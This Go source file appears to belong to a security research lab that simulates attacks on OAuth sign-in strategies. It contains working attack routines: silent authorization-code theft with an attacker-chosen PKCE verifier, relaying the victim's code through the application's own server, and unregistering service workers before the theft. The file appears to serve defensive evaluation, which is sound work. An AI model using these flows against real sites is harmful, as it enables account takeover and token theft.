package attack

import (
	"context"
	"crypto/rand"
	"crypto/sha256"
	"encoding/base64"
	"fmt"
	"net/http"
	"net/url"

	"cloakroom/shared/lab"
)

// proof is a PKCE verifier and its challenge (RFC 7636 §4).
func proof() (verifier, challenge string) {
	verifier = rand.Text() + rand.Text()
	sum := sha256.Sum256([]byte(verifier))
	return verifier, base64.RawURLEncoding.EncodeToString(sum[:])
}

// implicit reports whether an application is given its token by its address.
func implicit(s lab.Strategy) bool { return s.ID == "implicit" }

// question is what a public client asks the provider.
func (a *attacker) question(s lab.Strategy, state, challenge string) url.Values {
	question := url.Values{
		"response_type": {"code"}, "client_id": {a.world.ClientID(s.ID)}, "redirect_uri": {a.world.RedirectURI(s)}, "scope": {a.world.Scope()},
		"state": {state}, "code_challenge_method": {"S256"}, "code_challenge": {challenge},
	}
	if implicit(s) {
		question.Set("response_type", "token")
		question.Del("code_challenge")
		question.Del("code_challenge_method")
	}
	return question
}

// newFlow is A3: have the browser fetch a code for a verifier of the attacker's.
func (m *mission) newFlow(ctx context.Context) error {
	verifier, challenge := proof()
	state, redirect := rand.Text(), m.world.RedirectURI(m.target)
	question := m.attacker.question(m.target, state, challenge)
	question.Set("prompt", "none")
	got, err := m.inject(ctx, "newflow", map[string]string{"redirect": redirect, "authorize": m.world.Issuer() + "/authorize?" + question.Encode()})
	if err != nil {
		return err
	}
	if implicit(m.target) {
		return m.spend(ctx, sift(map[string]string{"address": got.Places["frame"] + "\n" + got.Places["window"]}))
	}
	code := piece{kind: lab.KindCode}
	for _, place := range []string{"frame", "window"} {
		address, _ := url.Parse(got.Places[place])
		if address != nil && address.Query().Get("state") == state && address.Query().Get("code") != "" {
			code.from, code.value = place, address.Query().Get("code")
		}
	}
	if code.value == "" {
		// Codes leak in other ways, by logs and histories: what the code is worth
		// must not hang on whether this payload could read it.
		if code.value, code.from = m.world.CodeFor(m.target, state), "given by the lab"; code.value == "" {
			m.step("no code came to where the payload, or the application's server, could have read it")
			return nil
		}
		m.step("the code was sent to %s, where the payload could not read it; the lab gives it to the attacker", redirect)
	}
	m.evidence.Taken = append(m.evidence.Taken, code.loot())
	if err := m.attacker.redeem(ctx, m.target, code, url.Values{
		"grant_type": {"authorization_code"}, "code": {code.value}, "redirect_uri": {redirect}, "code_verifier": {verifier},
	}, &m.evidence); err != nil || m.target.Public {
		return err
	}
	return m.throughServer(ctx, got.By == "navigation")
}

// throughServer has the application's server redeem the code: the attacker's
// client begins a sign-in there, the victim's browser fetches the code for it,
// and the attacker's client brings it back. The server's secret is no obstacle
// then, only that the page cannot read the address with the code.
func (m *mission) throughServer(ctx context.Context, left bool) error {
	if left {
		if _, err := enter(ctx, m.browser, m.world, m.target); err != nil {
			return err
		}
	}
	own, start := m.attacker.newAccount(m.target)
	begun, err := own.send(ctx, http.MethodGet, start, nil)
	if err != nil {
		return err
	}
	authorize, err := url.Parse(begun.next)
	if err != nil || begun.next == "" {
		return fmt.Errorf("attack: %s began no sign-in (%d): %w", start, begun.status, err)
	}
	query := authorize.Query()
	query.Set("prompt", "none")
	authorize.RawQuery = query.Encode()
	redirect := m.world.RedirectURI(m.target)
	m.step("the attacker's client began a sign-in at the application's own server, for the victim's browser to fetch the code")
	got, err := m.inject(ctx, "newflow", map[string]string{"redirect": redirect, "authorize": authorize.String()})
	if err != nil {
		return err
	}
	for _, place := range []string{"frame", "window"} {
		address, _ := url.Parse(got.Places[place])
		if address == nil || address.Query().Get("code") == "" {
			continue
		}
		code := piece{lab.KindCode, place, address.Query().Get("code")}
		m.evidence.Taken = append(m.evidence.Taken, code.loot())
		if err := own.finish(ctx, address.String()); err != nil {
			m.step("the application's server did not take the code from the attacker's client: %s", err)
		}
		answer, _, err := m.attacker.spend(ctx, m.target, own.at(redirect), "", code.fingerprint())
		m.evidence.Answers = append(m.evidence.Answers, answer)
		return err
	}
	m.step("the payload could not read the address with that code")
	return nil
}

// unguarded is X6: send the service worker away, and then A3, whose answer it
// would have taken.
func (m *mission) unguarded(ctx context.Context) error {
	got, err := m.inject(ctx, "unregister", map[string]string{})
	if err != nil {
		return err
	}
	if got.Places["workers"] == "0" {
		m.evidence.Missing = "the page has no service worker"
		return nil
	}
	m.step("the payload unregistered %s service workers", got.Places["workers"])
	return m.newFlow(ctx)
}
